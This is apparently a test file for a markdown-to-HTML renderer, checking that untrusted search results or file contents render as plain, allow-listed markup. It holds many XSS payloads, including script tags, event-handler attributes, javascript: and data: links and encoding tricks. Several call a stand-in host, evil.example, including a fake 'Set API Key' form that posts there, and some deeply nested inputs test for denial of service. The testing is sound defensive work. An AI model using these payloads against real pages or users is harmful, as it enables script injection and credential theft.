// @vitest-environment jsdom
// What an answer may contain when someone else wrote it: pages that were searched, files that were read.

import { describe, expect, it } from "vitest";
import { cut, renderOnce, renderPieces } from "./helpers.ts";

const tags = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/pixel.png">',
  "<img/src=x/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><a xlink:href=javascript:alert(1)>x</a></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<div style='position:fixed;inset:0'>over everything</div>",
  "<form action=https://evil.example><input name=key><button>Set API Key</button></form>",
  "<button data-testid=error-action>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<select onchange=alert(1)><option>x</select>",
  "<video src=https://evil.example/x.mp4 autoplay onloadstart=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<details open ontoggle=alert(1)>x</details>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='https://evil.example' onclick=alert(1)>x</a>",
  "<a id=root name=root>x</a>",
  "<div id=mimo-strings>{}</div>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- <img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<!DOCTYPE html [<!ENTITY x 'y'>]>",
  "</div></div></body></html><script>alert(1)</script>",
  "<p>a<p>b</div>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<slot name=x></slot>",
  "<portal src=https://evil.example></portal>",
];

const links = [
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](<java\tscript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&#x3A;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](javascript%3Aalert(1))",
  "[x](\\javascript:alert(1))",
  "[x](java\\script:alert(1))",
  "[x](javascript\\:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "[x](command:workbench.action.quit)",
  "[x](vscode://evil/x)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](\\\\evil.example)",
  '[x](javascript:alert(1) "title")',
  "[x][y]\n\n[y]: javascript:alert(1)",
  "[y]\n\n[y]: <javascript:alert(1)> 'title'",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "<command:x.y>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "![x](data:image/png;base64,AAAA)",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  '[x](https://a.b" onmouseover="alert(1))',
  "[x](https://a.b '\" onmouseover=\"alert(1)')",
  '[x](https://a.b "\\" onclick=\\"alert(1)")',
  '![" onerror="alert(1)](https://a.b/c.png)',
  "![<img src=x onerror=alert(1)>](https://a.b/c.png)",
  "[<img src=x onerror=alert(1)>](https://a.b)",
  "[x](https://a.b/`<img src=x onerror=alert(1)>`)",
  '<https://a.b/"onclick="alert(1)>',
  "https://a.b/<script>alert(1)</script>",
  'www.a.b/"onclick="alert(1)',
  "a@b.c",
];

const elsewhere = [
  "`<img src=x onerror=alert(1)>`",
  "```\n<script>alert(1)</script>\n```",
  '```js"onclick=alert(1)\nx\n```',
  "```<img/src=x/onerror=alert(1)>\nx\n```",
  "``` </code></pre><script>alert(1)</script>\nx\n```",
  "    <script>alert(1)</script>",
  "- ```html\n  <script>alert(1)</script>\n  ```",
  "# <script>alert(1)</script>",
  "> <img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> | b |\n|--|--|\n| <script>x</script> | c |",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "1. <svg onload=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "**<b onclick=alert(1)>x</b>**",
  "a <pre> &lt;img src=x onerror=alert(1)&gt; b",
  "a <code>\n\n<img src=x onerror=alert(1)>\n\n</code>",
  "[ref]: https://a.b '<img src=x onerror=alert(1)>'\n\n[ref]",
  "\u202e<script>alert(1)</script>",
  "<scr\0ipt>alert(1)</scr\0ipt>",
];

const allowed = new Set(
  "DIV P BR HR H1 H2 H3 H4 H5 H6 STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI A TABLE THEAD TBODY TR TH TD SPAN BUTTON INPUT".split(
    " ",
  ),
);
const allowedAttributes = new Set(
  "class href title align start dir data-testid data-language data-path type disabled checked aria-label aria-hidden role tabindex".split(
    " ",
  ),
);

function inspect(html: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = html;
  return root;
}

describe.each([...tags, ...links, ...elsewhere])("%j", (source) => {
  const html = renderOnce(source);
  const root = inspect(html);

  it("becomes nothing but plain markup", () => {
    for (const element of root.querySelectorAll("*")) {
      expect(allowed, element.outerHTML).toContain(element.tagName);
      for (const { name } of element.attributes) expect(allowedAttributes, element.outerHTML).toContain(name);
      if (element.tagName === "BUTTON")
        expect(element.getAttribute("data-testid")).toMatch(/^code-(copy|insert|apply|new-file)$/);
      if (element.tagName === "INPUT") expect(element.hasAttribute("disabled")).toBe(true);
    }
  });

  it("leads nowhere but to the web or a file", () => {
    for (const anchor of root.querySelectorAll("a")) {
      const href = anchor.getAttribute("href") ?? "";
      expect(href).toMatch(/^(?:https?:\/\/|[^:/\\#?][^:\\]*$)/);
      expect(decodeURIComponent(href).replace(/[^a-z:]/gi, "")).not.toMatch(/^(?:javascript|data|vbscript|command):/i);
    }
  });

  it("is the same in pieces", () => {
    expect(renderPieces(cut(source, 3)).html).toBe(html);
  });
});

describe("raw HTML", () => {
  it.each(tags)("is shown as text: %j", (source) => {
    const shown = inspect(renderOnce(source)).textContent ?? "";
    const name = /^<\/?!?([a-z-]+)/i.exec(source)?.[1];
    if (name) expect(shown.toLowerCase()).toContain(name.toLowerCase());
  });
});

describe("nesting", () => {
  it.each([
    ["quotes", ">".repeat(3000)],
    ["spaced quotes", "> ".repeat(3000)],
    ["lists", Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["brackets", "[".repeat(20_000)],
    ["emphasis", "*a **b ".repeat(3000)],
    ["links", "[a](".repeat(5000)],
    ["images", "![".repeat(5000)],
    ["backticks", Array.from({ length: 300 }, (_, n) => "`".repeat(n)).join(" ")],
    ["tildes", "~~a ".repeat(5000)],
    ["angles", "<a ".repeat(5000)],
    ["table", `|a|\n|-|\n${"|".repeat(20_000)}`],
    ["entities", "&#".repeat(10_000)],
  ])(
    "too deep does no harm: %s",
    (_what, source) => {
      const start = performance.now();
      expect(inspect(renderOnce(source)).textContent).not.toBe("");
      expect(performance.now() - start).toBeLessThan(10_000);
    },
    30_000,
  );
});
